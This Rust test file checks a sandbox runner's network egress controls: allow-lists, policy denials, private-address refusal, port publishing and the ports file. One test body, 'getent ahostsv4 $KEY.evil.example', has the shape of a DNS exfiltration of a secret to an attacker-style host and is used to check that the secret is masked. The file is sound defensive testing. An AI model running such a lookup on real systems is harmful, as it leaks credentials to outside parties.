//! Flags, host policy, report and standard error for the network of a run. The only host outside is
//! a listener of the test on 127.0.0.1, which `--add-host` and a policy make reachable; other tests
//! cover the network itself.

use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener};
use std::thread::JoinHandle;

use serde_json::json;

use support::text;
use support::{Done, Ground};

/// The address of the listener, and no other private address.
const OPEN: &str = "egress: {private_ranges: [127.0.0.1/32]}\n";

/// Answers one connection with what it received, after `got `.
fn serve_once() -> (u16, JoinHandle<String>) {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
    let port = listener.local_addr().expect("its own").port();
    let server = std::thread::spawn(move || {
        let (mut connection, _) = listener.accept().expect("somebody comes");
        let mut told = [0; 6];
        connection.read_exact(&mut told).expect("six bytes");
        let told = String::from_utf8_lossy(&told).into_owned();
        write!(connection, "got {told}").expect("taken");
        told
    });
    (port, server)
}

fn denials(done: &Done) -> Vec<(&str, &str)> {
    let list = done.report["denials"].as_array().expect("a list");
    list.iter()
        .map(|denial| {
            (
                denial["object"].as_str().expect("an object"),
                denial["reason"].as_str().expect("a reason"),
            )
        })
        .collect()
}

fn lines(done: &Done) -> Vec<&str> {
    let of_runner = |line: &&str| line.starts_with("runner: ");
    done.stderr.lines().filter(of_runner).collect()
}

#[test]
fn a_host_of_the_manifest_is_reached_by_its_name_and_its_bytes_are_counted() {
    let ground = Ground::new();
    let policy = ground.write("open.yaml", OPEN);
    let (port, server) = serve_once();
    let manifest = format!("run: body.sh\nnetwork: {{egress: ['listed.example:{port}']}}\n");
    let body =
        format!("exec 3<>/dev/tcp/listed.example/{port}; printf hello! >&3; head -c 10 <&3\n");
    let done = ground.exec(
        &[
            "--policy",
            text(&policy),
            "--grant",
            "egress",
            "--add-host",
            "listed.example:127.0.0.1",
        ],
        &ground.script(&manifest, &body),
    );
    done.assert_exited(0);
    assert_eq!(done.text(), "got hello!");
    assert_eq!(server.join().expect("served"), "hello!");
    assert_eq!(lines(&done), <[&str; 0]>::default());
    let egress = &done.report["egress"];
    assert_eq!(egress["allowed"], json!([format!("listed.example:{port}")]));
    assert_eq!(
        egress["hosts"],
        json!([{
            "host": "listed.example", "ports": [port], "connections": 1, "sent_bytes": 6,
            "received_bytes": 10,
        }])
    );
    assert!(["tproxy", "anyip"].contains(&egress["capture"].as_str().expect("a way")));
    assert_eq!(done.report["denials"], json!([]));
}

#[test]
fn denials_are_summarized_in_five_lines_and_hidden_by_quiet() {
    let ground = Ground::new();
    let body = "for host in a b c c c d e f; do getent ahostsv4 $host.example; done; true\n";
    let bundle = ground.script("run: body.sh\n", body);
    let done = ground.exec(&["--allow-net", "listed.example"], &bundle);
    done.assert_exited(0);
    let told = lines(&done);
    assert_eq!(told.len(), 6, "{told:?}");
    assert!(
        told[0].starts_with("runner: denied egress to c.example (not in network.egress"),
        "{told:?}"
    );
    assert!(told[1].contains("a.example"), "{told:?}");
    assert_eq!(told[5], "runner: … 1 more: see --json");
    let found = denials(&done);
    assert_eq!(found.len(), 6, "{found:?}");
    assert_eq!(found[0], ("a.example", "name-not-allowed"));
    let hint = &done.report["denials"][0]["hint"];
    assert_eq!(
        hint,
        "--allow-net a.example, or a.example in network.egress"
    );
    let quiet = ground.exec(&["-q", "--allow-net", "listed.example"], &bundle);
    assert_eq!(lines(&quiet), <[&str; 0]>::default());
    assert_eq!(denials(&quiet).len(), 6);
}

#[test]
fn denials_without_a_list_are_reported_only_on_request() {
    let ground = Ground::new();
    let bundle = ground.script("run: body.sh\n", "getent ahostsv4 a.example; true\n");
    let done = ground.exec(&[], &bundle);
    done.assert_exited(0);
    assert_eq!(done.report["egress"]["capture"], "none");
    assert_eq!(done.report["denials"], json!([]));
    assert_eq!(lines(&done), <[&str; 0]>::default());
    let done = ground.exec(&["--report-denials"], &bundle);
    done.assert_exited(0);
    assert_ne!(done.report["egress"]["capture"], "none");
    assert_eq!(denials(&done), [("a.example", "name-not-allowed")]);
}

#[test]
fn hosts_refused_by_the_policy_are_reported_and_refused_under_strict() {
    let ground = Ground::new();
    let policy = ground.write("p.yaml", "egress: {allow: [other.example]}\n");
    let flags = ["--policy", text(&policy), "--allow-net", "a.example"];
    let bundle = ground.script("run: body.sh\n", "getent ahostsv4 a.example; true\n");
    let done = ground.exec(&flags, &bundle);
    done.assert_exited(0);
    assert!(done.warns("egress_policy_forbids"), "{done:#?}");
    assert_eq!(done.report["egress"]["allowed"], json!([]));
    assert_eq!(done.report["egress"]["capture"], "none");
    let told = lines(&done);
    assert_eq!(told.len(), 1, "{told:?}");
    assert!(told[0].contains("egress.allow"), "{told:?}");
    let denied = ground.exec(&[&flags[..], &["--report-denials"]].concat(), &bundle);
    let hint = &denied.report["denials"][0]["hint"];
    assert_eq!(hint, "add a.example to egress.allow of the host policy");
    let strict = ground.exec(&[&flags[..], &["--strict"]].concat(), &bundle);
    strict
        .assert_error("refused", "strict_refuses")
        .assert_message("a.example")
        .assert_nothing_ran();
}

#[test]
fn an_address_that_is_not_public_is_denied_with_the_key_that_opens_it() {
    let ground = Ground::new();
    let body = "exec 3<>/dev/tcp/listed.example/9 && cat <&3; true\n";
    let done = ground.exec(
        &[
            "--allow-net",
            "listed.example",
            "--add-host",
            "listed.example:10.1.2.3",
        ],
        &ground.script("run: body.sh\n", body),
    );
    done.assert_exited(0);
    assert!(done.warns("egress_address_private"), "{done:#?}");
    assert_eq!(
        denials(&done),
        [("listed.example:9", "resolves-to-private")]
    );
    let hint = done.report["denials"][0]["hint"].as_str().expect("a hint");
    assert_eq!(
        hint,
        "set `egress: {private_ranges: [10.1.2.3/32]}` in the host policy"
    );
}

/// A body that looks up a name with a secret in it: the report does not contain the secret.
#[test]
fn a_secret_in_a_name_that_was_asked_for_is_masked() {
    let ground = Ground::new();
    let mut case = ground.command(&[
        "exec",
        "--report-denials",
        "--secret",
        "KEY=env:GIVEN",
        text(&ground.script(
            "run: body.sh\n",
            "getent ahostsv4 $KEY.evil.example; true\n",
        )),
    ]);
    case.command.env("GIVEN", "Tr0ub4dorAndThree");
    let done = case.done();
    done.assert_exited(0);
    assert_eq!(denials(&done), [("***.evil.example", "name-not-allowed")]);
    let everything = done.report.to_string().to_lowercase() + &done.stderr.to_lowercase();
    assert!(!everything.contains("ub4dor"), "{everything}");
}

#[test]
fn a_published_port_that_is_taken_is_refused_before_anything_runs() {
    let ground = Ground::new();
    let taken = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
    let port = taken.local_addr().expect("its own").port();
    let bundle = ground.script("run: body.sh\n", "echo ran\n");
    let done = ground.exec(&["--publish", &format!("{port}:80")], &bundle);
    done.assert_error("refused", "port_unavailable")
        .assert_message(&format!("127.0.0.1:{port}"))
        .assert_hint("choose another port")
        .assert_nothing_ran();
}

/// A server that answers one connection at port 80, then ends.
const SERVER: &str = include_str!("../bodies/exec/network_server.py");

#[test]
fn a_chosen_published_port_is_reported_and_reaches_the_body() {
    let ground = Ground::new();
    let file = ground.path("ports");
    let words = ["run", "-p", "0:80", "--rm", "--publish-file", text(&file)];
    let server = ["--", "/usr/bin/python3", "-c", SERVER];
    let mut running = ground.command(&[&words[..], &server].concat()).start();
    running.until("the file of the ports", || file.exists());
    let ports = std::fs::read_to_string(&file).expect("readable");
    let (host, body) = ports.trim_end().split_once(':').expect("two ports");
    assert_eq!(body, "80");
    let host: u16 = host.parse().expect("a number");
    // Connections are reset until the body listens.
    running.until("an answer", || {
        let connection = std::net::TcpStream::connect((Ipv4Addr::LOCALHOST, host));
        let answered = connection.and_then(|mut it| {
            let mut answer = [0; 6];
            it.read_exact(&mut answer).map(|()| answer)
        });
        answered.is_ok_and(|answer| answer == *b"served")
    });
    let done = running.done();
    done.assert_exited(0);
    let published = &done.report["egress"]["published"][0];
    assert_eq!(published["host_port"], host);
    assert_eq!(published["body_port"], 80);
    let told = format!("runner: 127.0.0.1:{host} leads to port 80 of the body");
    assert_eq!(lines(&done), [told]);
}

#[test]
fn a_file_for_the_ports_that_cannot_be_written_is_refused_before_the_body_starts() {
    let ground = Ground::new();
    for file in [ground.path("none/ports"), ground.path("")] {
        let flags = ["-p", "0:80", "--publish-file", text(&file)];
        ground
            .exec(&flags, &ground.script("run: body.sh\n", "echo ran\n"))
            .assert_error("refused", "publish_file_unwritable")
            .assert_message(text(&file).trim_end_matches('/'))
            .assert_nothing_ran();
    }
}

#[test]
fn a_link_at_the_ports_file_is_replaced_and_not_followed() {
    let ground = Ground::new();
    let kept = ground.write("kept", "K");
    let link = ground.path("ports");
    std::os::unix::fs::symlink(&kept, &link).expect("a link");
    let flags = ["-p", "0:80", "--publish-file", text(&link)];
    let done = ground.exec(&flags, &ground.script("run: body.sh\n", "true\n"));
    done.assert_exited(0);
    assert_eq!(std::fs::read_to_string(&kept).expect("readable"), "K");
    let ports = std::fs::read_to_string(&link).expect("readable");
    assert!(ports.ends_with(":80\n"), "{ports}");
}

/// The C library looks up no IPv4 address if no device has one.
#[test]
fn a_program_that_asks_for_ipv4_alone_is_told_of_an_allowed_host() {
    let ground = Ground::new();
    let bundle = ground.script("run: body.sh\n", "getent ahostsv4 listed.example\n");
    for capture in ["auto", "anyip"] {
        let flags = ["--egress-capture", capture, "--allow-net", "listed.example"];
        let done = ground.exec(&flags, &bundle);
        done.assert_exited(0);
        assert!(done.text().starts_with("198.18."), "{done:#?}");
    }
}
